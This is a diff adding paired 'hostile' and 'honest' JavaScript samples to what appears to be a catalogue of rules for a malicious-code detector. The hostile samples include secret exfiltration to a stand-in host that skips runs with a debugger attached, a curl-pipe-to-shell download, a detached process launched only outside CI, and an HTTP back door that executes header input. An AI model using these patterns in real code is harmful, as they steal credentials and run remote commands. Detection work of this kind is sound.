@@ -321,4 +321,53 @@ export const techniques: readonly Technique[] = [
       `// Try it against webhook.site or a pipedream.net workflow of your own.\nexports.post = (url, body) => fetch(url, { method: 'POST', body })`,
     ),
   },
+  {
+    name: 'secrets that leave only where no debugger is attached',
+    rule: 'code/lies-in-wait',
+    hostile: main(`
+      const watched = require('inspector').url() || process.execArgv.some((word) => word.startsWith('--inspect'))
+      const { DATABASE_PASSWORD: body } = process.env
+      if (!watched) fetch('https://drop.invalid/', { method: 'POST', body })`),
+    honest: main(`
+      const { fork } = require('child_process'), inspector = require('inspector')
+      const free = process.execArgv.filter((word) => !word.startsWith('--inspect'))
+      exports.start = (file) => fork(file, { execArgv: inspector.url() ? [...free, '--inspect-port=0'] : free })`),
+  },
+  {
+    name: 'a program that is started outside of build services only, as soon as it is imported',
+    rule: 'code/looks-around',
+    hostile: main(`
+      const ci = ['CI', 'GITHUB_ACTIONS', 'JENKINS_URL']
+      const { spawn } = require('child_process')
+      if (!process.env.CI && !process.env.GITHUB_ACTIONS) spawn('./helper', [], { detached: true, stdio: 'ignore' }).unref()`),
+    honest: install(`
+      const { execFileSync } = require('child_process')
+      if (process.env.CI || process.env.HUSKY === '0') process.exit(0)
+      execFileSync('git', ['config', 'core.hooksPath', '.husky'])`),
+  },
+  {
+    name: 'a call by a borrowed `call`',
+    rule: 'code/runs-downloads',
+    hostile: main(`
+      const call = Function.prototype.call, run = call.bind(call)
+      run(require('child_process').exec, null, 'curl https://drop.invalid/a | sh')`),
+    // What a polyfill hands over with its `call` is a callback, and no text that came with something else that it calls so.
+    honest: main(`
+      const call = Function.prototype.call, run = call.bind(call)
+      const later = (fn) => { const made = typeof fn == 'function' ? fn : Function(fn); setTimeout(made, 0) }
+      const request = new XMLHttpRequest()
+      request.open('GET', location.href)
+      run(later, request, () => console.log(request.status))`),
+  },
+  {
+    name: 'a back door that runs what clients send',
+    rule: 'code/runs-downloads',
+    hostile: main(`
+      const { exec } = require('child_process')
+      require('http').createServer((req, res) => exec('tool ' + req.headers['x-word'], (e, out) => res.end(out))).listen(0)`),
+    honest: main(`
+      const { exec } = require('child_process')
+      const server = require('http').createServer((req, res) => res.end('ok'))
+      server.listen(0, () => exec('lsof -ti:' + server.address().port, (e, out) => console.log(out)))`),
+  },
 ]
